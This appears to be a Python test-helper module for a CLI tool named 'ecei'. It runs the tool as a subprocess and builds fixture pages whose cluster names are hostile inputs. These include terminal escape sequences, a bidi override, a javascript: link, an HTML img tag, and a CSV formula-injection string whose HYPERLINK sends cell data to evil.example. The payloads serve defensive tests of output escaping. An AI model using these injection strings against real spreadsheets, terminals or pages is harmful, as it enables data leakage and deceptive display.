"""How the CLI tests run `ecei`: as a user does, a real process with its exit code and output."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

ECEI = str(Path(sys.executable).with_name("ecei"))


def ecei(
    *args: str, env: dict[str, str] | None = None, cwd: Path | None = None, wide: bool = False
) -> subprocess.CompletedProcess[str]:
    """Run `ecei ARGS`; `wide` makes rich tables keep each row on one line (200 columns)."""
    if wide:
        env = {**(env or os.environ), "COLUMNS": "200"}
    return subprocess.run([ECEI, *args], capture_output=True, text=True, timeout=180, cwd=cwd, env=env)


# A cluster name as an attacker would write it on the site: colour and screen-clearing escapes, a
# bell, C1's CSI, a bidi override, a Markdown link, emphasis, a heading mark, a pipe and HTML.
HOSTILE_NAME = "Arena \x1b[31mEyde\x1b[0m\x1b[2J \x07\x9b2J \u202eevil](javascript:alert(1)) *em* # h | <img src=x>"
# what the terminal shows instead: every control as its picture or its escape, nothing obeyed
CONTROLS = "\x1b\x07\x9b\u202e"


def hostile_page(body: bytes) -> bytes:
    """A Norway page of the demo snapshot whose first cluster is named HOSTILE_NAME (a mirror rewrite)."""
    hostile = "<td>" + HOSTILE_NAME.replace("<", "&lt;") + "</td>"
    return body.replace(b"<td>Arena Eyde</td>", hostile.encode())


# A cluster name a spreadsheet would run: a CSV cell must hold it as text (ecei.outputs.csv_cells)
FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A2,"Arena Eyde")'


def formula_page(body: bytes) -> bytes:
    """A Norway page of the demo snapshot whose first cluster is named FORMULA_NAME (a mirror rewrite)."""
    return body.replace(b"<td>Arena Eyde</td>", b"<td>" + FORMULA_NAME.replace("&", "&amp;").encode() + b"</td>")


def stale_wal(beside: Path) -> Path:
    """A write-ahead log left by another database's process that died before its checkpoint."""
    other = beside.parent / "other-process.duckdb"
    script = (
        "import duckdb, os, sys\n"
        "con = duckdb.connect(sys.argv[1])\n"
        "con.execute(\"set wal_autocheckpoint = '1GB'\")\n"
        "con.execute('pragma disable_checkpoint_on_shutdown')\n"
        "con.execute('create table x as select range as r from range(1000)')\n"
        "os._exit(0)\n"
    )
    subprocess.run([sys.executable, "-c", script, str(other)], check=True, timeout=60)
    wal = other.with_name(other.name + ".wal")
    assert wal.exists()
    return wal
